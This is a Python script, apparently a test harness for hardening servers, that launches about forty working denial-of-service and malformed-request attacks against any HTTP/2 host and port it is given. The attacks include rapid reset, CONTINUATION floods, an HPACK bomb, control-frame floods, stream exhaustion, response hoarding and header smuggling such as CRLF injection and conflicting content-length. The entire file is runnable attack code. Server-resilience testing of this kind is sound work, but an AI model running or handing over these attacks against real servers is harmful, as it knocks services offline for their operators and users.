# attack.py HOST PORT tls|clear [ACT...]: attacks on a server of HTTP/2, all of them or those. It reports how the server ended
# each of them.
import itertools
import socket
import ssl
import struct
import sys

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION, UPDATE = *range(10), 16
ACK = END_STREAM = 1
END_HEADERS, PADDED = 4, 8
# GET / of localhost, by the static table, and the same as POST.
GET = b"\x82\x84\x87\x41\x09localhost"
FILLED = b"\x82\x87\x04\x0e/filled?200000\x41\x09localhost"
POST = b"\x83\x84\x87\x41\x09localhost"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def word(number):
    return struct.pack(">I", number)


class Ended(Exception):
    """The server has ended the connection."""


class Wire:
    def __init__(self, host, port, encrypted):
        self.place = host, port, encrypted
        self.socket = socket.create_connection((host, int(port)), timeout=30)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if encrypted:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket)
        self.encrypted = encrypted
        self.received, self.sent, self.counts = b"", 0, {}

    def open(self, settings=b""):
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        self.pull()
        return self

    def send(self, data):
        try:
            self.socket.sendall(data)
        except (ConnectionError, ssl.SSLError):
            self.drain()
        self.sent += len(data)

    def receive(self):
        try:
            data = self.socket.recv(65536)
        except (ConnectionError, ssl.SSLError) as error:
            if isinstance(error, TimeoutError):
                raise
            data = b""
        if not data:
            raise Ended("closed")
        self.received += data
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
            payload, self.received = self.received[9:9 + length], self.received[9 + length:]
            self.counts[kind] = self.counts.get(kind, 0) + 1
            yield kind, flags, stream, payload

    def drain(self):
        """Reads until the server says GOAWAY or ends the connection."""
        while True:
            for kind, _, _, payload in self.receive():
                if kind == GOAWAY:
                    raise Ended(f"GOAWAY {int.from_bytes(payload[4:8], 'big')}")

    def pull(self):
        """Waits until the server has handled what it was sent: it answers a PING. Returns the frames that came before."""
        self.send(frame(PING, 0, 0, b"attacker"))
        seen = []
        while True:
            for kind, flags, stream, payload in self.receive():
                if kind == GOAWAY:
                    raise Ended(f"GOAWAY {int.from_bytes(payload[4:8], 'big')}")
                if kind == PING and flags & ACK:
                    return seen
                seen.append((kind, flags, stream, payload))


def flood(wire, frames, bound, batch=100):
    """Sends frames in batches, and asks after each whether the server still listens. Says whether it took no more than so many."""
    taken = 0
    try:
        while taken < 2 * bound:
            wire.send(b"".join(itertools.islice(frames, batch)))
            taken += batch
            wire.pull()
        print("not ended")
    except Ended as end:
        print(end, f"within {bound}" if taken <= bound else f"after {taken}")


def odd():
    return itertools.count(1, 2)


def rapid_reset(wire):
    """48: requests, each of which is reset at once."""
    get = (frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(RESET, 0, stream, word(8)) for stream in odd())
    # Those that have been answered restore what resets use up: all are reset in the same packet as they are sent.
    flood(wire.open(), get, 200)


def made_to_reset(act):
    """49: requests that the client makes the server reset."""
    def attack(wire):
        flood(wire.open(), (frame(HEADERS, END_HEADERS, stream, POST) + act(stream) for stream in odd()), 200)
    return attack


def continuations(payload):
    """50: a block of fields without an end."""
    def attack(wire):
        wire.open().send(frame(HEADERS, END_STREAM, 1, GET))
        try:
            # No PING may come in between.
            for _ in range(2000):
                wire.send(frame(CONTINUATION, 0, 1, payload))
            wire.drain()
        except Ended as end:
            print(end)
    return attack


def bomb(wire):
    """51: a large field in the table, which small blocks repeat."""
    wire.open()
    large = b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000
    try:
        wire.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + large))
        for stream in itertools.count(3, 2):
            assert stream < 2000, "not ended"
            wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET + b"\xbe" * 4000))
            wire.pull()
    except Ended as end:
        print(end)


def flapping(wire):
    """51: updates of the table's size before each request."""
    updates = b"\x20\x3f\xe1\x1f"
    wire.open()
    for number, stream in enumerate(range(1, 2001, 2)):
        wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, updates + GET))
        wire.pull()
        # A busy server handles frames before it answers: more than a hundred open requests are another attack.
        while wire.counts.get(HEADERS, 0) + 50 < number:
            list(wire.receive())
    print("served")


def fields(block):
    """51, 55 and 56: fields that are wrong."""
    def attack(wire):
        wire.open().send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        try:
            reset = [payload for kind, _, _, payload in wire.pull() if kind == RESET]
            print(f"reset {int.from_bytes(reset[0], 'big')}" if reset else "answered")
        except Ended as end:
            print(end)
    return attack


def repeated(piece):
    """52: frames that bring nothing."""
    def attack(wire):
        flood(wire.open(), itertools.repeat(piece), 10500, 500)
    return attack


def tiny_data(payload):
    """52: content in tiny or empty pieces."""
    def attack(wire):
        wire.open().send(frame(HEADERS, END_HEADERS, 1, POST))
        flood(wire, itertools.repeat(frame(DATA, 0, 1, payload)), 10500, 500)
    return attack


def hoard(wire):
    """53: large responses for which there is no room, on as many streams as there may be, of several connections."""
    wires = [wire] + [Wire(*wire.place) for _ in range(4)]
    heads = 0
    for each in wires:
        each.open(struct.pack(">HI", 4, 0))
        each.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, FILLED) for stream in range(1, 200, 2)))
    for each in wires:
        while each.counts.get(HEADERS, 0) < 100:
            each.pull()
        heads += each.counts[HEADERS]
    print(heads, "heads and no content")
    for each in wires:
        assert DATA not in each.counts
        each.socket.close()


def too_many(wire):
    """54: more streams than are allowed, none of them complete."""
    wire.open()
    for stream in range(1, 241, 2):
        wire.send(frame(HEADERS, END_HEADERS, stream, POST))
    refused = [payload for kind, _, _, payload in wire.pull() if kind == RESET]
    print(len(refused), "refused,", *{f"reset {int.from_bytes(payload, 'big')}" for payload in refused})


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


ATTACKS = {
    "rapid reset": rapid_reset,
    "made to reset by a window of 0": made_to_reset(lambda stream: frame(WINDOW, 0, stream, word(0))),
    "made to reset by a window too large": made_to_reset(lambda stream: frame(WINDOW, 0, stream, word(0x7FFFFFFF))),
    "made to reset by a priority of a wrong size": made_to_reset(lambda stream: frame(PRIORITY, 0, stream, b"1234")),
    "made to reset by content behind the end": made_to_reset(lambda stream: frame(DATA, END_STREAM, stream) + frame(DATA, 0, stream, b"x")),
    "CONTINUATION without an end": continuations(b"\x00\x01x\x7f\xa1\x1e" + b"a" * 4000),
    "CONTINUATION of one byte": continuations(b"\x00"),
    "CONTINUATION of nothing": continuations(b""),
    "HPACK bomb": bomb,
    "flapping table": flapping,
    "table too large": fields(b"\x3f\xe2\x1f" + GET),
    "Huffman with EOS": fields(GET + b"\x00\x01x\x84\xff\xff\xff\xff"),
    "Huffman with much padding": fields(GET + b"\x00\x01x\x82\x1f\xff"),
    "an index of nothing": fields(GET + b"\xff\x00"),
    "an integer without an end": fields(GET + b"\xff" + b"\xff" * 20),
    "PING": repeated(frame(PING, ACK, 0, bytes(8))),
    "SETTINGS": repeated(frame(SETTINGS, 0, 0)),
    "PRIORITY": repeated(frame(PRIORITY, 0, 1, bytes(5))),
    "PRIORITY_UPDATE": repeated(frame(UPDATE, 0, 0, word(1) + b"u=1")),
    "WINDOW_UPDATE": repeated(frame(WINDOW, 0, 0, word(1))),
    "unknown frames": repeated(frame(99, 0, 0, b"x")),
    "empty DATA": tiny_data(b""),
    "DATA of one byte": tiny_data(b"x"),
    "too many streams": too_many,
    "a pseudo-field twice": fields(b"\x82" + GET),
    "a pseudo-field behind a field": fields(b"\x00\x01x\x01y" + GET),
    "no path": fields(b"\x82\x87\x41\x09localhost"),
    "an empty path": fields(b"\x82\x87\x04\x00\x41\x09localhost"),
    "capital letters": fields(GET + literal(b"Name", b"value")),
    "an empty name": fields(GET + literal(b"", b"value")),
    "connection": fields(GET + literal(b"connection", b"close")),
    "te: gzip": fields(GET + literal(b"te", b"gzip")),
    "transfer-encoding": fields(GET + literal(b"transfer-encoding", b"chunked")),
    "a line end in a value": fields(GET + literal(b"name", b"a\r\nother: b")),
    "NUL in a value": fields(GET + literal(b"name", b"a\0b")),
    "space before a value": fields(GET + literal(b"name", b" a")),
    "another content-length": fields(GET + literal(b"content-length", b"5")),
    "host that is not :authority": fields(GET + literal(b"host", b"other")),
    "hoarding of responses": hoard,
}

if __name__ == "__main__":
    host, port, how, *names = sys.argv[1:]
    for name in names or ATTACKS:
        try:
            print(name, end=": ", flush=True)
            ATTACKS[name](Wire(host, port, how == "tls"))
        except Ended as end:
            print(end)
